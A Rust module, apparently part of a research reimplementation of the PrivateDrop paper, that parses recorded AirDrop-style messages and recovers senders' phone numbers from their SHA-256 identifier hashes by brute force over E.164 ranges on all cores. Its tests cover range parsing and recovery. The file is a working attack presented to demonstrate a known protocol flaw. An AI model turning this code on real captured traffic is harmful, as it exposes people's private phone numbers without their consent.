//! The leak, executed (PrivateDrop §3.2–3.4): recover phone numbers from the SHA-256
//! identifier hashes that the legacy flow sends, by brute force over a range of
//! E.164 numbers, on all cores.
//!
//! A *capture* is what a malicious peer recorded: the messages it received, each as a
//! frame (`u32` big-endian length, then the message), concatenated. The attack
//! extracts every identifier hash a known message carries — all of them from a legacy
//! `Discover` request or response, one from a PrivateDrop validation record (sent only
//! to a peer that already holds that identifier) — and tests each number of the range
//! against them. PrivateDrop messages to a non-contact carry no such hash: only
//! blinded group elements and PRF values under keys the attacker does not have.

use crate::legacy::{DiscoverRequest, DiscoverResponse};
use crate::protocol::{Ask, FinishPsiResponse, tags as drop_tags};
use crate::{DropParams, Error, Result};
use rayon::prelude::*;
use sha2::{Digest, Sha256};
use std::collections::HashSet;
use tacit_crypto::{P256, Ristretto255};
use tacit_wire::{Envelope, FrameDecoder};

/// A range of phone numbers: fixed leading digits and `X` wildcards, as in
/// `+1555XXXXXXX` (10⁷ numbers of one US area code).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PhoneRange {
    prefix: String,
    wildcards: u32,
}

/// Most wildcard digits accepted (10¹² candidates).
pub const MAX_WILDCARDS: u32 = 12;

impl PhoneRange {
    /// Parses `+DIGITS` followed by `X`s (the `+` is optional).
    pub fn parse(s: &str) -> Result<Self> {
        let t = s.trim().trim_start_matches('+');
        let digits = t.trim_end_matches(['X', 'x']);
        let wildcards = (t.len() - digits.len()) as u32;
        if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
            return Err(Error::Attack(format!(
                "range {s:?} must be digits followed by X wildcards, like +1555XXXXXXX"
            )));
        }
        if wildcards == 0 || wildcards > MAX_WILDCARDS {
            return Err(Error::Attack(format!(
                "range {s:?} has {wildcards} wildcards; use 1 to {MAX_WILDCARDS}"
            )));
        }
        if digits.len() + wildcards as usize > 15 {
            return Err(Error::Attack(format!(
                "range {s:?} is longer than an E.164 number (15 digits)"
            )));
        }
        Ok(PhoneRange {
            prefix: digits.to_string(),
            wildcards,
        })
    }

    /// Numbers in the range.
    pub fn len(&self) -> u64 {
        10u64.pow(self.wildcards)
    }

    /// Whether the range is empty (never).
    pub fn is_empty(&self) -> bool {
        false
    }

    /// The `i`-th number, as AirDrop hashes it (E.164 digits without `+`).
    pub fn number(&self, i: u64) -> String {
        format!("{}{:0width$}", self.prefix, i, width = self.wildcards as usize)
    }
}

/// What a capture holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CaptureSummary {
    /// Messages per kind, in order of appearance.
    pub messages: Vec<String>,
    /// Distinct identifier hashes found.
    pub hashes: Vec<[u8; 32]>,
}

/// Writes messages as a capture file.
pub fn write_capture(messages: &[Vec<u8>]) -> Vec<u8> {
    let mut out = Vec::new();
    for m in messages {
        out.extend_from_slice(&(m.len() as u32).to_be_bytes());
        out.extend_from_slice(m);
    }
    out
}

/// Reads a capture and extracts identifier hashes from the messages it knows.
pub fn read_capture(bytes: &[u8], params: &DropParams) -> Result<CaptureSummary> {
    let mut dec = FrameDecoder::new(64 << 20);
    dec.push(bytes);
    let mut summary = CaptureSummary::default();
    let mut seen = HashSet::new();
    let mut add = |h: [u8; 32], s: &mut CaptureSummary| {
        if seen.insert(h) {
            s.hashes.push(h);
        }
    };
    while let Some(frame) = dec.next_frame().map_err(|e| Error::Attack(format!("capture: {e}")))? {
        let kind = match Envelope::peek(&frame).map(|e| e.tag) {
            Ok(crate::legacy::tags::DISCOVER_REQUEST) => {
                let r = DiscoverRequest::from_bytes(&frame)?;
                r.record.record.id_hashes.iter().for_each(|h| add(*h, &mut summary));
                "legacy Discover request"
            }
            Ok(crate::legacy::tags::DISCOVER_RESPONSE) => {
                let r = DiscoverResponse::from_bytes(&frame)?;
                if let Some(rec) = r.record {
                    rec.record.id_hashes.iter().for_each(|h| add(*h, &mut summary));
                }
                "legacy Discover response"
            }
            Ok(drop_tags::FINISH_PSI_RESPONSE) => {
                let rec = match params.psi.group {
                    tacit_crypto::GroupId::Ristretto255 => {
                        FinishPsiResponse::<Ristretto255>::from_bytes(&frame, params)?.record
                    }
                    tacit_crypto::GroupId::P256 => FinishPsiResponse::<P256>::from_bytes(&frame, params)?.record,
                };
                if let Some(r) = rec {
                    add(r.record.id_hash, &mut summary);
                }
                "PrivateDrop FinishPSI response"
            }
            Ok(drop_tags::ASK) => {
                if let Some(r) = Ask::from_bytes(&frame)?.record {
                    add(r.record.id_hash, &mut summary);
                }
                "PrivateDrop Ask"
            }
            Ok(drop_tags::START_PSI_REQUEST) => "PrivateDrop StartPSI request",
            Ok(drop_tags::START_PSI_RESPONSE) => "PrivateDrop StartPSI response",
            Ok(drop_tags::FINISH_PSI_REQUEST) => "PrivateDrop FinishPSI request",
            _ => "unrecognised message",
        };
        summary.messages.push(kind.to_string());
    }
    if dec.buffered() != 0 {
        return Err(Error::Attack(format!(
            "capture ends in the middle of a message ({} bytes left over)",
            dec.buffered()
        )));
    }
    Ok(summary)
}

/// Tests every number of `range` against `targets`; returns the recovered numbers.
/// `progress(k)` is called after each batch of `k` candidates.
pub fn brute_force(
    targets: &[[u8; 32]],
    range: &PhoneRange,
    progress: &(dyn Fn(u64) + Sync),
) -> Vec<(String, [u8; 32])> {
    if targets.is_empty() {
        return Vec::new();
    }
    let wanted: HashSet<[u8; 32]> = targets.iter().copied().collect();
    const BATCH: u64 = 1 << 16;
    let batches = range.len().div_ceil(BATCH);
    let mut found: Vec<(String, [u8; 32])> = (0..batches)
        .into_par_iter()
        .flat_map_iter(|b| {
            let start = b * BATCH;
            let end = (start + BATCH).min(range.len());
            let mut buf = range.number(start).into_bytes();
            let digits_at = range.prefix.len();
            let width = range.wildcards as usize;
            let mut hits = Vec::new();
            for i in start..end {
                // Write the wildcard digits of i in place (no allocation per candidate).
                let mut v = i;
                for d in (0..width).rev() {
                    buf[digits_at + d] = b'0' + (v % 10) as u8;
                    v /= 10;
                }
                let h: [u8; 32] = Sha256::digest(&buf).into();
                if wanted.contains(&h) {
                    hits.push((String::from_utf8_lossy(&buf).into_owned(), h));
                }
            }
            progress(end - start);
            hits
        })
        .collect();
    found.sort();
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::identifier_hash;

    #[test]
    fn ranges() {
        let r = PhoneRange::parse("+1555XXXXXXX").unwrap();
        assert_eq!(r.len(), 10_000_000);
        assert_eq!(r.number(42), "15550000042");
        assert!(PhoneRange::parse("+1555").is_err());
        assert!(PhoneRange::parse("abcX").is_err());
        assert!(PhoneRange::parse("+1XXXXXXXXXXXXX").is_err());
    }

    #[test]
    fn recovers_numbers_in_range_only() {
        let targets = [
            identifier_hash("15550001234"),
            identifier_hash("15550009999"),
            identifier_hash("15560001234"),
        ];
        let r = PhoneRange::parse("+1555000XXXX").unwrap();
        let found = brute_force(&targets, &r, &|_| {});
        let numbers: Vec<&str> = found.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(numbers, ["15550001234", "15550009999"]);
    }
}
